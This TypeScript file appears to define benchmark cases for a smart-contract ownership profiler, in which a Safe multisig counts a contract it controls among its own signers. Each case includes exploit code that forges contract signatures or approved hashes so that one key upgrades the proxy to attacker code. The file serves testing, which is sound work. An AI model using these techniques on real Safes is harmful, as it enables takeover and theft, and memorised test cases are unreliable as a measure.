/** A Safe controls a contract that is one of its own signers: the profiled one, or one on the path. */
import { concatHex, type Hex, pad, size, toHex } from 'viem'
import type { Attack } from '../attack.ts'
import { type Case, type Twin, WEAK } from '../case.ts'
import { type Built, type Chain, callData, system } from '../chain.ts'
import { deploySafe, execSafe, safeTransactionHash } from '../safes.ts'
import { compatibilityHandler } from './hidden-entries.ts'
import { part } from './lying-getters.ts'

type Draft = Pick<Case, 'name' | 'build' | 'exploit'>

const WORD_ZERO = toHex(0, { size: 32 })
const first = ({ evm }: Chain): Hex => evm.accounts[0] as Hex

/** A proxy whose owner is a Safe with two of three signers: one key, the named contract, and another key. */
const signedBy =
  (logic: string, signerFor: (chain: Chain, proxy: Hex) => Promise<Hex> = async (_, proxy) => proxy) =>
  async (chain: Chain): Promise<Built> => {
    const proxy = await chain.uups(logic, first(chain))
    const signer = await signerFor(chain, proxy)
    const owners = [chain.hidden(0).address, signer, chain.hidden(1).address]
    const safe = await deploySafe(chain, { owners, threshold: 2 })
    await chain.send(proxy, 'transferOwnership(address)', [safe])
    return system(proxy, { safe, signer })
  }

const upgradeTo = (code: Hex): Hex => callData('upgradeTo(address)', [code])

/** The signature of a contract, `inner` being what it is asked about. */
const contractSignature = (at: Hex, inner: Hex): { readonly head: Hex; readonly tail: Hex } => ({
  head: concatHex([pad(at, { size: 32 }), toHex(130, { size: 32 }), '0x00']),
  tail: concatHex([toHex(size(inner), { size: 32 }), inner]),
})

/** The Safe executes a call with the signature of one key and that of the contract. */
async function execWith(
  attack: Attack,
  built: Built,
  to: Hex,
  data: Hex,
  signature: { readonly head: Hex; readonly tail: Hex },
): Promise<void> {
  const [safe, signer, key] = [part(built, 'safe'), part(built, 'signer'), attack.hidden(0)]
  const call = (at: Hex, input: Hex): Promise<Hex> =>
    attack.chain.node.rpc<Hex>('eth_call', { to: at, data: input }, 'latest')
  const own = await key.sign({ hash: await safeTransactionHash(call, safe, to, data) })
  const heads = BigInt(key.address) < BigInt(signer) ? [own, signature.head] : [signature.head, own]
  await execSafe(attack, safe, to, data, concatHex([...heads, signature.tail]))
}

const drafts: readonly Draft[] = [
  {
    name: 'the profiled proxy signs for the Safe that owns it',
    build: signedBy('SigningLogic'),
    exploit: (attack, built) =>
      execWith(attack, built, built.address, upgradeTo(attack.code), contractSignature(built.address, '0x')),
  },
  {
    name: 'the profiled proxy approves hashes for the Safe that owns it',
    build: signedBy('ApprovingLogic'),
    exploit: async (attack, built) => {
      const [safe, data] = [part(built, 'safe'), upgradeTo(attack.code)]
      const call = (at: Hex, input: Hex): Promise<Hex> =>
        attack.chain.node.rpc<Hex>('eth_call', { to: at, data: input }, 'latest')
      const hash = await safeTransactionHash(call, safe, built.address, data)
      await attack.send(built.address, 'approve(address,bytes32)', [safe, hash])
      const head = concatHex([pad(built.address, { size: 32 }), WORD_ZERO, '0x01'])
      await execWith(attack, built, built.address, data, { head, tail: '0x' })
    },
  },
  {
    name: 'a nested Safe of the profiled proxy signs for the Safe that owns it',
    build: signedBy('SigningLogic', async (chain, proxy) => {
      const fallbackHandler = await compatibilityHandler(chain)
      return deploySafe(chain, { owners: [proxy], threshold: 1, fallbackHandler })
    }),
    exploit: (attack, built) => {
      const inner = concatHex([pad(built.address, { size: 32 }), toHex(65, { size: 32 }), '0x00', WORD_ZERO])
      const signature = contractSignature(part(built, 'signer'), inner)
      return execWith(attack, built, built.address, upgradeTo(attack.code), signature)
    },
  },
  {
    name: 'the wallet on the path signs for the Safe that owns it',
    build: async (chain) => {
      const wallet = await chain.deploy('SigningWallet')
      const built = system(await chain.uups('OwnedLogic', wallet))
      const owners = [chain.hidden(0).address, wallet, chain.hidden(1).address]
      const safe = await deploySafe(chain, { owners, threshold: 2 })
      await chain.send(wallet, 'transferOwnership(address)', [safe])
      return system(built.address, { safe, signer: wallet })
    },
    exploit: (attack, built) => {
      const wallet = part(built, 'signer')
      const data = callData('run(address,bytes)', [built.address, upgradeTo(attack.code)])
      return execWith(attack, built, wallet, data, contractSignature(wallet, '0x'))
    },
  },
]

export const circles: readonly Case[] = drafts.map((draft) => ({
  ...draft,
  cause: 'module',
  by: 'one key',
  truth: WEAK,
}))

export const circleTwins: readonly Twin[] = [
  {
    name: 'the profiled proxy is one of four signers, of whom three are needed',
    cause: 'module',
    deserves: 'multisig',
    build: async (chain) => {
      const proxy = await chain.uups('OwnedLogic', first(chain))
      const owners = [proxy, ...[0, 1, 2].map((n) => chain.hidden(n).address)]
      await chain.send(proxy, 'transferOwnership(address)', [await deploySafe(chain, { owners, threshold: 3 })])
      return system(proxy)
    },
  },
]
